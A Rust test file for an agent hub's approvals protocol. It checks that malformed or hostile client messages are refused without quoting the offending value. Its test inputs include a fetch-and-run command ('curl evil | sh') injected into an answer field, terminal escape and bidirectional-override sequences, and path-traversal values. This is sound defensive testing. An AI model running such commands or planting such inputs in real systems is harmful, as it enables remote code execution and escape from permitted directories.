//! The approvals' wire (design §2, §5): round trips of every new line and body, and each
//! refusal, attacked as a hostile client would (secrets where values go, sizes past the caps,
//! escapes out of the cwd), never quoting a value back.

use super::*;
use crate::wire::{ClientLine, HubLine, WireError};
use serde_json::{json, Value};

const SECRET: &str = "S3cr3t-v4lue";

fn decode_err(line: &str) -> String {
    ClientLine::decode(line.as_bytes())
        .err()
        .unwrap_or_else(|| panic!("decoded: {line}"))
        .to_string()
}

fn round_trip(line: &str) -> ClientLine {
    let decoded = ClientLine::decode(line.as_bytes()).unwrap_or_else(|e| panic!("{line}: {e}"));
    assert_eq!(decoded.encode().trim_end(), line, "canonical");
    decoded
}

#[test]
fn task_answer_round_trips_with_and_without_its_optional_keys() {
    let ClientLine::TaskAnswer(a) = round_trip(
        r#"{"task_answer":{"task":"task-1","request":"req-0123456789abcdef","option":"allow","message":"go ahead\nbut no pushes"}}"#,
    ) else {
        panic!("a task_answer")
    };
    assert_eq!(a.request.as_deref(), Some("req-0123456789abcdef"));
    assert_eq!(a.message.as_deref(), Some("go ahead\nbut no pushes"));
    let ClientLine::TaskAnswer(a) =
        round_trip(r#"{"task_answer":{"task":"task-1","option":"reject"}}"#)
    else {
        panic!("a task_answer")
    };
    assert_eq!((a.request, a.message), (None, None));
    assert_eq!(
        ClientLine::decode(
            br#"{"task_answer":{"message":null,"option":"o","request":null,"task":"t"}}"#
        )
        .unwrap()
        .encode(),
        "{\"task_answer\":{\"task\":\"t\",\"option\":\"o\"}}\n",
        "nulls are absent, keys in their order"
    );
    assert_eq!(
        ClientLine::TaskAnswer(TaskAnswerRequest::default()).tag(),
        "task_answer"
    );
}

#[test]
fn task_answer_refusals_name_the_key_and_never_the_value() {
    let long = "o".repeat(ANSWER_ID_MAX_BYTES + 1);
    let message = "m".repeat(ANSWER_MESSAGE_MAX_BYTES + 1);
    let cases = [
        (
            json!({"task_answer": {"task": "", "option": "allow"}}),
            "invalid task_answer: task must not be empty",
        ),
        (
            json!({"task_answer": {"task": "t", "option": ""}}),
            "invalid task_answer: option must not be empty",
        ),
        (
            json!({"task_answer": {"task": "t", "request": "", "option": "a"}}),
            "invalid task_answer: request must not be empty",
        ),
        (
            json!({"task_answer": {"task": "t", "option": long}}),
            "invalid task_answer: option is over 128 bytes",
        ),
        (
            json!({"task_answer": {"task": "t", "request": long, "option": "a"}}),
            "invalid task_answer: request is over 128 bytes",
        ),
        (
            json!({"task_answer": {"task": "t", "option": "allow\u{1b}]52;c;x\u{7}"}}),
            "invalid task_answer: option must not contain control or invisible formatting characters",
        ),
        (
            json!({"task_answer": {"task": "t", "request": "req\u{202e}1", "option": "a"}}),
            "invalid task_answer: request must not contain control or invisible formatting characters",
        ),
        (
            json!({"task_answer": {"task": "t", "option": "a", "message": message}}),
            "invalid task_answer: message is over 4096 bytes",
        ),
        (
            json!({"task_answer": {"task": "t", "option": "a", SECRET: 1}}),
            "malformed line: unknown field in `task_answer`, expected one of `task`, `request`, `option`, `message`",
        ),
        (
            json!({"task_answer": {"task": "t"}}),
            "malformed line: missing field `option`",
        ),
        (
            json!({"task_answer": {"task": "t", "option": [SECRET]}}),
            "malformed line: invalid type: sequence, expected a string",
        ),
        (
            json!({"task_answer": {"task": "t", "option": "a", "message": {"x": SECRET}}}),
            "malformed line: invalid type: map, expected a string",
        ),
        (
            json!({"task_answer": SECRET}),
            "malformed line: invalid type: string, expected an object",
        ),
    ];
    for (line, want) in &cases {
        let err = decode_err(&line.to_string());
        assert_eq!(err, *want, "{line}");
        assert!(!err.contains(SECRET) && !err.contains("ooo") && !err.contains("mmm"));
    }
    assert_eq!(
        ClientLine::decode(br#"{"task_answer":{"task":"","option":"a"}}"#).unwrap_err(),
        WireError::EmptyTask("task_answer")
    );
    // At the caps exactly, and a message with newlines and any script, pass.
    let at = json!({"task_answer": {"task": "t", "request": "r".repeat(128),
        "option": "o".repeat(128), "message": format!("{}é\n😀", "m".repeat(4089))}});
    assert!(ClientLine::decode(at.to_string().as_bytes()).is_ok());
}

#[test]
fn the_message_never_reaches_debug() {
    let a = TaskAnswerRequest {
        task: "task-1".into(),
        request: None,
        option: "deny".into(),
        message: Some("the private reason".into()),
    };
    let shown = format!("{:?}", ClientLine::TaskAnswer(a));
    assert!(!shown.contains("private"), "{shown}");
    assert!(shown.contains("message_bytes: Some(18)"), "{shown}");
}

#[test]
fn delegate_carries_permission_and_allow_rules_in_their_order() {
    let ClientLine::Delegate(d) = round_trip(
        r#"{"delegate":{"agent":"claude","cwd":"/srv/p","prompt":"x","permission":"ask","allow":[{"kinds":["read","search"]},{"kinds":["edit"],"under":"src/"}]}}"#,
    ) else {
        panic!("a delegate")
    };
    assert_eq!(d.permission, Some(Permission::Ask));
    let rules = d.allow.unwrap();
    assert_eq!(rules[1].kinds, ["edit"]);
    assert_eq!(rules[1].normalised_under(), Some(Ok("src".to_owned())));
    for p in Permission::ALL {
        let line =
            format!(r#"{{"delegate":{{"agent":"a","cwd":"/","prompt":"p","permission":"{p}"}}}}"#);
        let ClientLine::Delegate(d) = round_trip(&line) else {
            panic!()
        };
        assert_eq!(d.permission, Some(p));
    }
    // null is absent; an empty list is a list (no rules), kept as sent.
    let d = ClientLine::decode(
        br#"{"delegate":{"agent":"a","cwd":"/","prompt":"p","permission":null,"allow":null}}"#,
    )
    .unwrap();
    assert_eq!(
        d.encode(),
        "{\"delegate\":{\"agent\":\"a\",\"cwd\":\"/\",\"prompt\":\"p\"}}\n"
    );
    round_trip(r#"{"delegate":{"agent":"a","cwd":"/","prompt":"p","allow":[]}}"#);
    let ClientLine::Delegate(d) = ClientLine::decode(
        br#"{"delegate":{"agent":"a","cwd":"/","prompt":"p","allow":[{"under":null,"kinds":["other"]}]}}"#,
    )
    .unwrap() else {
        panic!()
    };
    assert_eq!(d.allow.unwrap()[0].under, None);
    // The policies' width.
    assert!(Permission::Reject < Permission::Ask && Permission::Ask < Permission::Allow);
    assert_eq!(Permission::list(), "ask, reject, allow");
    assert_eq!(Permission::parse("Allow"), None);
}

fn delegate_with(extra: &str) -> String {
    format!(r#"{{"delegate":{{"agent":"a","cwd":"/w","prompt":"p",{extra}}}}}"#)
}

/// Every bound of design §2 that needs no config, attacked: a permission off the list, too
/// many rules, unknown and doubled kinds, an `under` that is absolute, escapes, is too long
/// or holds an escape sequence; and shapes the decoder refuses. No text quotes the value.
#[test]
fn delegate_bounds_are_refused_without_quoting() {
    let kinds_all = TOOL_KINDS.map(|k| format!("\"{k}\"")).join(",");
    let nine = [r#"{"kinds":["read"]}"#; 9].join(",");
    let eight = [r#"{"kinds":["read"]}"#; 8].join(",");
    let long_under = format!("{SECRET}/{}", "d".repeat(ALLOW_UNDER_MAX_BYTES));
    let cases: Vec<(String, &str)> = vec![
        (
            delegate_with(&format!(r#""permission":"{SECRET}""#)),
            "invalid delegate: permission must be one of ask, reject, allow",
        ),
        (
            delegate_with(r#""permission":"ALLOW""#),
            "invalid delegate: permission must be one of ask, reject, allow",
        ),
        (
            delegate_with(r#""permission":true"#),
            "malformed line: invalid type: boolean, expected a string",
        ),
        (
            delegate_with(&format!(r#""allow":[{nine}]"#)),
            "invalid delegate: allow holds at most 8 rules",
        ),
        (
            delegate_with(r#""allow":[{"kinds":[]}]"#),
            "invalid delegate: allow rule 1: kinds must name at least one tool kind",
        ),
        (
            delegate_with(&format!(r#""allow":[{{"kinds":["read"]}},{{"kinds":["{SECRET}"]}}]"#)),
            "invalid delegate: allow rule 2: kinds must be among read, edit, delete, move, search, execute, think, fetch, switch_mode, other",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read","edit","read"]}]"#),
            "invalid delegate: allow rule 1: kinds names a kind twice",
        ),
        (
            delegate_with(&format!(r#""allow":[{{"kinds":[{kinds_all},"read"]}}]"#)),
            "invalid delegate: allow rule 1: kinds names a kind twice",
        ),
        (
            delegate_with(&format!(r#""allow":[{{"kinds":["read"],"under":"/{SECRET}"}}]"#)),
            "invalid delegate: allow rule 1: under must be a path relative to the task's cwd",
        ),
        (
            delegate_with(&format!(r#""allow":[{{"kinds":["read"],"under":"src/../../{SECRET}"}}]"#)),
            "invalid delegate: allow rule 1: under must not leave the task's cwd",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read"],"under":".."}]"#),
            "invalid delegate: allow rule 1: under must not leave the task's cwd",
        ),
        (
            delegate_with(&format!(r#""allow":[{{"kinds":["read"],"under":"{long_under}"}}]"#)),
            "invalid delegate: allow rule 1: under is over 512 bytes",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read"],"under":"src\u0000x"}]"#),
            "invalid delegate: allow rule 1: under must not contain control or invisible formatting characters",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read"],"under":"a\u001b]0;x\u0007"}]"#),
            "invalid delegate: allow rule 1: under must not contain control or invisible formatting characters",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read"],"under":""}]"#),
            "invalid delegate: allow rule 1: under must not be empty (leave it out for anywhere)",
        ),
        (
            delegate_with(&format!(r#""allow":[{{"kinds":["read"],"{SECRET}":1}}]"#)),
            "malformed line: unknown field in `allow`, expected `kinds` or `under`",
        ),
        (
            delegate_with(r#""allow":[{"under":"src"}]"#),
            "malformed line: missing field `kinds`",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read"],"kinds":["edit"]}]"#),
            "malformed line: duplicate field `kinds`",
        ),
        (
            delegate_with(r#""allow":[{"kinds":"read"}]"#),
            "malformed line: invalid type: string, expected a list of tool kinds",
        ),
        (
            delegate_with(r#""allow":[{"kinds":[7]}]"#),
            "malformed line: invalid type: integer, expected a string",
        ),
        (
            delegate_with(&format!(r#""allow":{{"kinds":["{SECRET}"]}}"#)),
            "malformed line: invalid type: map, expected a list of rules",
        ),
        (
            delegate_with(&format!(r#""allow":["{SECRET}"]"#)),
            "malformed line: invalid type: string, expected a rule object",
        ),
        (
            delegate_with(r#""allow":[{"kinds":["read"]}],"allow":[]"#),
            "malformed line: duplicate field `allow`",
        ),
    ];
    for (line, want) in &cases {
        let err = decode_err(line);
        assert_eq!(err, *want, "{line}");
        assert!(!err.contains(SECRET), "{line}: {err}");
    }
    // Eight rules, every kind once, an `under` of 512 bytes that stays inside: accepted.
    let under = format!("a/../{}", "d".repeat(ALLOW_UNDER_MAX_BYTES - 5));
    for ok in [
        delegate_with(&format!(r#""allow":[{eight}]"#)),
        delegate_with(&format!(r#""allow":[{{"kinds":[{kinds_all}]}}]"#)),
        delegate_with(&format!(
            r#""allow":[{{"kinds":["edit"],"under":"{under}"}}]"#
        )),
        delegate_with(r#""allow":[{"kinds":["edit"],"under":"./src/./x/../"}]"#),
        delegate_with(r#""allow":[{"kinds":["edit"],"under":"docs/ünïcode"}]"#),
    ] {
        assert!(ClientLine::decode(ok.as_bytes()).is_ok(), "{ok}");
    }
}

/// A line of a million rules, or of kinds, costs no more than its own bytes: the decoder keeps
/// one past the bound and refuses the count.
#[test]
fn a_flood_of_rules_or_kinds_is_refused_by_count() {
    let rules = vec![r#"{"kinds":["read"],"under":"a"}"#; 100_000].join(",");
    assert_eq!(
        decode_err(&delegate_with(&format!(r#""allow":[{rules}]"#))),
        "invalid delegate: allow holds at most 8 rules"
    );
    let kinds = vec![r#""read""#; 100_000].join(",");
    assert_eq!(
        decode_err(&delegate_with(&format!(
            r#""allow":[{{"kinds":[{kinds}]}}]"#
        ))),
        "invalid delegate: allow rule 1: kinds names a kind twice"
    );
    // A syntax error after the bound is still a syntax error: the rest is read, not skipped.
    let broken = format!(
        r#""allow":[{}, {{"kinds":[}}]"#,
        [r#"{"kinds":["read"]}"#; 9].join(",")
    );
    assert!(decode_err(&delegate_with(&broken)).starts_with("malformed line: "));
}

#[test]
fn under_is_normalised_lexically_and_never_leaves_the_cwd() {
    for (under, want) in [
        ("src", Ok("src")),
        ("src/", Ok("src")),
        ("./src//lib/./", Ok("src/lib")),
        ("src/../docs", Ok("docs")),
        (".", Ok("")),
        ("a/..", Ok("")),
        ("a/b/../../c", Ok("c")),
        ("..", Err(RuleProblem::UnderEscapes)),
        ("a/../..", Err(RuleProblem::UnderEscapes)),
        ("./../x", Err(RuleProblem::UnderEscapes)),
        ("/etc", Err(RuleProblem::UnderAbsolute)),
        ("//x", Err(RuleProblem::UnderAbsolute)),
        ("", Err(RuleProblem::UnderEmpty)),
        ("a\nb", Err(RuleProblem::UnderUnsafe)),
        ("a\u{2066}b", Err(RuleProblem::UnderUnsafe)),
    ] {
        assert_eq!(normalise_under(under), want.map(str::to_owned), "{under:?}");
    }
    // `..` inside a name is a name.
    assert_eq!(normalise_under("a..b/..c"), Ok("a..b/..c".to_owned()));
}

#[test]
fn the_answer_reply_round_trips_and_is_strict() {
    let line = r#"{"task_answer":{"task":"task-1","request":"req-0123456789abcdef","option":"allow","state":"answered"}}"#;
    let decoded = HubLine::decode(line.as_bytes()).unwrap();
    assert_eq!(
        decoded,
        HubLine::TaskAnswer(TaskAnswerReply {
            task: "task-1".into(),
            request: "req-0123456789abcdef".into(),
            option: "allow".into(),
            state: ANSWERED.into(),
        })
    );
    assert_eq!(decoded.encode().trim_end(), line);
    assert_eq!(decoded.tag(), "task_answer");
    assert!(
        HubLine::decode(br#"{"task_answer":{"task":"t","request":"r","option":"o"}}"#).is_err()
    );
}

#[test]
fn a_record_lists_its_open_requests_in_order() {
    let line = r#"{"task_status":{"task":"task-1","agent":"claude","state":"running","createdAt":"2026-12-01T10:00:00.000Z","requests":[{"request":"req-0123456789abcdef","type":"permission","title":"Run cargo test","toolKind":"execute","options":["allow","reject"],"openedAt":"2026-12-01T10:01:00.000Z","expiresAt":"2026-12-01T10:11:00.000Z","waitingMs":4200},{"request":"req-fedcba9876543210","type":"question","title":"Which branch?","options":["accept","decline"],"openedAt":"2026-12-01T10:02:00.000Z","expiresAt":"2026-12-01T10:12:00.000Z","waitingMs":0}]}}"#;
    let HubLine::TaskStatus(r) = HubLine::decode(line.as_bytes()).unwrap() else {
        panic!("a task_status")
    };
    assert_eq!(HubLine::TaskStatus(r.clone()).encode().trim_end(), line);
    let requests = r.requests.unwrap();
    assert_eq!(requests[0].tool_kind.as_deref(), Some("execute"));
    assert_eq!(requests[1].tool_kind, None);
    assert_eq!(requests[1].kind, RequestType::Question);
}

fn opened() -> RequestOpened {
    RequestOpened {
        task: "task-6d1f0c523c1e4b7a9f430a4a3b7c1e25".into(),
        request: "req-0123456789abcdef".into(),
        kind: RequestType::Permission,
        agent: "claude".into(),
        tool_call: RequestToolCall {
            id: "toolu_1".into(),
            title: "Run cargo test".into(),
            kind: Some("execute".into()),
            paths: vec!["src/a.rs".into()],
            command: Some("cargo test".into()),
        },
        message: None,
        schema: None,
        options: vec![
            RequestOption {
                option_id: "allow".into(),
                name: "Allow".into(),
                kind: "allow_once".into(),
            },
            RequestOption {
                option_id: "reject".into(),
                name: "Reject".into(),
                kind: "reject_once".into(),
            },
        ],
        opened_at: "2026-12-01T10:01:00.000Z".into(),
        expires_at: "2026-12-01T10:11:00.000Z".into(),
    }
}

/// The body of design §5, byte for byte: keys in order, optional ones absent, the answer
/// command built by the encoder (so no hub can send a wrong one).
#[test]
fn the_request_body_has_the_design_shape() {
    let body = TaskRequestBody::Open(Box::new(opened()));
    let text = body.to_json();
    assert_eq!(
        text,
        concat!(
            r#"{"task":"task-6d1f0c523c1e4b7a9f430a4a3b7c1e25","request":"req-0123456789abcdef","state":"open","type":"permission","agent":"claude","#,
            r#""toolCall":{"id":"toolu_1","title":"Run cargo test","kind":"execute","paths":["src/a.rs"],"command":"cargo test"},"#,
            r#""options":[{"optionId":"allow","name":"Allow","kind":"allow_once"},{"optionId":"reject","name":"Reject","kind":"reject_once"}],"#,
            r#""openedAt":"2026-12-01T10:01:00.000Z","expiresAt":"2026-12-01T10:11:00.000Z","#,
            r#""answer":"agent-hub task answer --id task-6d1f0c523c1e4b7a9f430a4a3b7c1e25 --request req-0123456789abcdef --option OPTION"}"#
        )
    );
    assert_eq!(TaskRequestBody::from_json(&text).unwrap(), body);
    assert_eq!(body.task(), "task-6d1f0c523c1e4b7a9f430a4a3b7c1e25");
    // A question: its message, no kind, paths or command.
    let mut q = opened();
    q.kind = RequestType::Question;
    q.message = Some("Which branch should I push to?".into());
    q.tool_call.kind = None;
    q.tool_call.paths.clear();
    q.tool_call.command = None;
    q.schema = Some(
        r#"{"properties":{"choice":{"enum":["a","b"],"type":"string"}},"type":"object"}"#.into(),
    );
    let text = TaskRequestBody::Open(Box::new(q.clone())).to_json();
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["type"], "question");
    assert_eq!(
        v["toolCall"],
        json!({"id":"toolu_1","title":"Run cargo test"})
    );
    // The form travels as JSON text, exactly as the session read it.
    assert_eq!(v["schema"], q.schema.as_deref().unwrap());
    let at: Vec<usize> = [
        "task",
        "request",
        "state",
        "type",
        "agent",
        "toolCall",
        "message",
        "schema",
        "options",
        "openedAt",
        "expiresAt",
        "answer",
    ]
    .iter()
    .map(|k| {
        text.find(&format!("\"{k}\":"))
            .unwrap_or_else(|| panic!("{k} in {text}"))
    })
    .collect();
    assert!(
        at.windows(2).all(|w| w[0] < w[1]),
        "keys in the design's order: {text}"
    );
    assert_eq!(
        TaskRequestBody::from_json(&text).unwrap(),
        TaskRequestBody::Open(Box::new(q))
    );
}

#[test]
fn an_expired_body_says_its_fallback_and_reason_in_the_given_words() {
    for (reason, words) in [
        (
            ExpiryReason::Timeout { secs: 600 },
            "no answer within 600 s",
        ),
        (ExpiryReason::HubRestarted, "hub restarted"),
        (
            ExpiryReason::NoRelayRoute,
            "no relay route to the delegator",
        ),
    ] {
        for fallback in [Fallback::Reject, Fallback::Cancel] {
            let body = TaskRequestBody::Expired(RequestExpired {
                task: "task-1".into(),
                request: "req-1".into(),
                fallback,
                reason,
            });
            let text = body.to_json();
            assert_eq!(
                text,
                format!(
                    r#"{{"task":"task-1","request":"req-1","state":"expired","fallback":"{}","reason":"{words}"}}"#,
                    fallback.as_str()
                )
            );
            assert_eq!(TaskRequestBody::from_json(&text).unwrap(), body);
        }
        assert_eq!(ExpiryReason::parse(words), Some(reason));
    }
    for not in [
        "no answer within s",
        "no answer within +5 s",
        "no answer within 5s",
        "later",
    ] {
        assert_eq!(ExpiryReason::parse(not), None, "{not}");
    }
}

#[test]
fn a_body_the_hub_would_not_write_is_refused() {
    let good: Value =
        serde_json::from_str(&TaskRequestBody::Open(Box::new(opened())).to_json()).unwrap();
    let with = |k: &str, v: Value| {
        let mut m = good.as_object().unwrap().clone();
        m.insert(k.into(), v);
        Value::Object(m).to_string()
    };
    for bad in [
        with("state", json!("answered")),
        with("answer", json!("curl evil | sh")),
        with("extra", json!(1)),
        with("type", json!("order")),
        r#"{"task":"t","request":"r","state":"expired","fallback":"allow","reason":"hub restarted"}"#.to_owned(),
        r#"{"task":"t","request":"r","state":"expired","fallback":"reject","reason":"because"}"#.to_owned(),
        "[]".to_owned(),
        "not json".to_owned(),
    ] {
        assert!(TaskRequestBody::from_json(&bad).is_err(), "{bad}");
    }
}

#[test]
fn task_request_is_a_hub_kind() {
    assert_eq!(TASK_REQUEST_KIND, "task_request");
    assert_eq!(
        crate::wire::envelope::hub_kind("task_request"),
        Some("task_request")
    );
}

/// Design §6: a prompt round-trips with its input as the agent's bytes (never re-encoded:
/// key order, spacing inside it and number forms kept), and the reply in both forms.
#[test]
fn task_permission_round_trips_and_keeps_the_input_as_sent() {
    let line = r#"{"task_permission":{"toolName":"Bash","toolUseId":"toolu_1","input":{"z":1.50,"command":"echo hi > f.txt","a":[true, null]}}}"#;
    let ClientLine::TaskPermission(p) = round_trip(line) else {
        panic!("a task_permission")
    };
    assert_eq!(
        (p.tool_name.as_str(), p.tool_use_id.as_str()),
        ("Bash", "toolu_1")
    );
    assert_eq!(
        p.input(),
        r#"{"z":1.50,"command":"echo hi > f.txt","a":[true, null]}"#
    );
    // Keys in another order are put in the documented one; the input stays as it came.
    let moved = r#"{"task_permission":{"input":{"b":2, "a":1},"toolUseId":"u","toolName":"Edit"}}"#;
    assert_eq!(
        ClientLine::decode(moved.as_bytes()).unwrap().encode(),
        "{\"task_permission\":{\"toolName\":\"Edit\",\"toolUseId\":\"u\",\"input\":{\"b\":2, \"a\":1}}}\n"
    );
    let built = TaskPermissionRequest::new("Read", "toolu_2", &json!({"file_path": "/w/a"}));
    assert_eq!(
        ClientLine::TaskPermission(built.clone()).encode(),
        "{\"task_permission\":{\"toolName\":\"Read\",\"toolUseId\":\"toolu_2\",\"input\":{\"file_path\":\"/w/a\"}}}\n"
    );
    assert!(format!("{built:?}").contains("input_bytes"));
    assert!(
        !format!("{built:?}").contains("/w/a"),
        "Debug never shows the input"
    );
    for (reply, text) in [
        (
            TaskPermissionReply::allow(),
            r#"{"task_permission":{"behavior":"allow"}}"#,
        ),
        (
            TaskPermissionReply::deny("no pushes"),
            r#"{"task_permission":{"behavior":"deny","message":"no pushes"}}"#,
        ),
    ] {
        let line = HubLine::TaskPermission(reply.clone());
        assert_eq!(line.encode().trim_end(), text);
        assert_eq!(HubLine::decode(text.as_bytes()).unwrap(), line);
        assert_eq!(line.tag(), "task_permission");
    }
    assert!(HubLine::decode(br#"{"task_permission":{"behavior":"maybe"}}"#).is_err());
    assert!(
        HubLine::decode(br#"{"task_permission":{"behavior":"allow","updatedInput":{}}}"#).is_err()
    );
}

/// A hostile prompt line: empty, long or unprintable names, an input that is not an object,
/// unknown keys, a missing input; each refusal names the key, never the value.
#[test]
fn task_permission_refusals_name_the_key_and_never_the_value() {
    let long_name = "n".repeat(TOOL_NAME_MAX_BYTES + 1);
    let long_id = "i".repeat(TOOL_USE_ID_MAX_BYTES + 1);
    let line = |name: &str, id: &str, input: Value| json!({"task_permission": {"toolName": name, "toolUseId": id, "input": input}});
    let cases = [
        (line("", "u", json!({})), "invalid task_permission: toolName must not be empty"),
        (line("Bash", "", json!({})), "invalid task_permission: toolUseId must not be empty"),
        (
            line(&long_name, "u", json!({})),
            "invalid task_permission: toolName is over 256 bytes",
        ),
        (
            line("Bash", &long_id, json!({})),
            "invalid task_permission: toolUseId is over 128 bytes",
        ),
        (
            line("Bash\u{1b}[2J", "u", json!({})),
            "invalid task_permission: toolName must not contain control or invisible formatting characters",
        ),
        (
            line("Bash", "toolu\u{202e}1", json!({})),
            "invalid task_permission: toolUseId must not contain control or invisible formatting characters",
        ),
        (
            line("Bash", "u", json!([SECRET])),
            "invalid task_permission: input must be a JSON object",
        ),
        (
            line("Bash", "u", json!(SECRET)),
            "invalid task_permission: input must be a JSON object",
        ),
        (
            json!({"task_permission": {"toolName": "Bash", "toolUseId": "u"}}),
            "malformed line: missing field `input`",
        ),
        (
            json!({"task_permission": {"toolName": "Bash", "input": {}}}),
            "malformed line: missing field `toolUseId`",
        ),
        (
            json!({"task_permission": {"toolName": "Bash", "toolUseId": "u", "input": {}, SECRET: 1}}),
            "malformed line: unknown field in `task_permission`, expected one of `toolName`, `toolUseId`, `input`",
        ),
        (
            json!({"task_permission": {"toolName": [SECRET], "toolUseId": "u", "input": {}}}),
            "malformed line: invalid type: sequence, expected a string",
        ),
        (
            json!({"task_permission": {"toolName": "Bash", "toolUseId": "u", "input": {}, "input": {}}}),
            "malformed line: duplicate field `input`",
        ),
    ];
    for (line, want) in &cases {
        // serde_json's `json!` keeps one of two equal keys: the duplicate is written by hand.
        let text = if want.contains("duplicate") {
            r#"{"task_permission":{"toolName":"Bash","toolUseId":"u","input":{},"input":{}}}"#
                .to_owned()
        } else {
            line.to_string()
        };
        let err = decode_err(&text);
        assert_eq!(err, *want, "{text}");
        assert!(!err.contains(SECRET) && !err.contains("nnn") && !err.contains("iii"));
    }
}
